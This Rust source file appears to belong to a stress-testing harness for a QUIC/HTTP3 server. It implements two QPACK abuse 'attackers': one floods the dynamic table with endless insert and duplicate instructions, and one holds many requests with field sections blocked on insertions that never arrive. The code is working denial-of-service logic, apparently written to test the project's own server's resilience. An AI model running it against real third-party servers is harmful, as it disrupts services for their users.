//! Abuse of QPACK: endless insertions, and field sections that wait for insertions that
//! never come.

use std::io;
use std::time::Duration;

use clearway_quic::connection::Config;

use super::sockets::{Sockets, Traffic};
use super::swarm::Swarm;
use super::wire::put_varint;
use super::{Attacker, Context, http3};

/// Size of a batch of instructions, bytes.
const BATCH: usize = 1100;

/// Fills the dynamic table again and again, as fast as flow control allows.
pub(crate) struct Inserts {
    swarm: Swarm<Inserting>,
    bytes: u64,
}

/// The instructions that a connection still has to send.
#[derive(Default)]
struct Inserting {
    begun: bool,
    rest: Vec<u8>,
}

const INSERTING: usize = 16;

impl Inserts {
    pub(crate) fn new(context: &Context) -> io::Result<Self> {
        let sockets = Sockets::bind(context.number, 0, INSERTING)?;
        Ok(Self {
            swarm: Swarm::new(context.server, sockets, Config::default())?,
            bytes: 0,
        })
    }
}

impl Attacker for Inserts {
    fn turn(&mut self, packets: u64) {
        self.swarm.keep(INSERTING);
        self.swarm.step();
        for _ in 0..packets {
            let Some(handle) = self.swarm.next_ready() else {
                return;
            };
            let Some(member) = self.swarm.get(handle) else {
                return;
            };
            let Some(http3_streams) = member.http3_streams else {
                continue;
            };
            if member.state.rest.is_empty() {
                member.state.rest = instructions(!member.state.begun);
                member.state.begun = true;
            }
            let rest = std::mem::take(&mut member.state.rest);
            let written = member.write(http3_streams.encoder, &rest);
            member.state.rest = rest[written..].to_vec();
            self.bytes += written as u64;
            self.swarm.speak(handle);
        }
    }

    fn traffic(&self) -> Traffic {
        self.swarm.traffic()
    }

    fn held(&self) -> usize {
        self.swarm.established()
    }

    fn note(&self) -> String {
        format!(
            "{} bytes of instructions; {}",
            self.bytes,
            self.swarm.closures()
        )
    }
}

/// A batch of instructions: an insertion and duplicates of it, which take a byte each.
fn instructions(first: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(BATCH);
    if first {
        http3::put_capacity(&mut out, 4096);
    }
    http3::put_insert(&mut out, b"x-siege", b"insert");
    while out.len() < BATCH {
        http3::put_duplicate(&mut out);
    }
    out
}

/// Sends requests whose field sections are blocked, each followed by a body.
pub(crate) struct Blocked {
    swarm: Swarm<u64>,
    sections: u64,
}

const WAITING: usize = 200;

/// Limit of blocked streams in the server's SETTINGS
/// (`clearway_http3::Config::qpack_blocked_streams`).
const STREAMS: u64 = 16;

/// Size of the body after each section, bytes.
const BODY: usize = 60 << 10;

const PING_EVERY: Duration = Duration::from_secs(5);

impl Blocked {
    pub(crate) fn new(context: &Context) -> io::Result<Self> {
        let sockets = Sockets::bind(context.number, 0, WAITING / 4)?;
        Ok(Self {
            swarm: Swarm::new(context.server, sockets, Config::default())?,
            sections: 0,
        })
    }
}

impl Attacker for Blocked {
    fn turn(&mut self, packets: u64) {
        self.swarm.keep(WAITING);
        self.swarm.step();
        for _ in 0..(packets / 64).min(self.swarm.established() as u64) {
            let Some(handle) = self.swarm.next_ready() else {
                break;
            };
            let Some(member) = self.swarm.get(handle) else {
                break;
            };
            if member.state == STREAMS {
                continue;
            }
            let mut request = Vec::new();
            http3::put_frame(&mut request, http3::HEADERS, &http3::blocked_section(1));
            put_varint(&mut request, http3::DATA);
            put_varint(&mut request, 1 << 20);
            request.resize(request.len() + BODY, b'x');
            if member.request(&request, false).is_some() {
                member.state += 1;
                self.sections += 1;
                self.swarm.speak(handle);
            }
        }
        self.swarm.refresh(PING_EVERY, packets);
    }

    fn traffic(&self) -> Traffic {
        self.swarm.traffic()
    }

    fn held(&self) -> usize {
        self.swarm.established()
    }

    fn note(&self) -> String {
        format!(
            "{} blocked sections; {}",
            self.sections,
            self.swarm.closures()
        )
    }
}
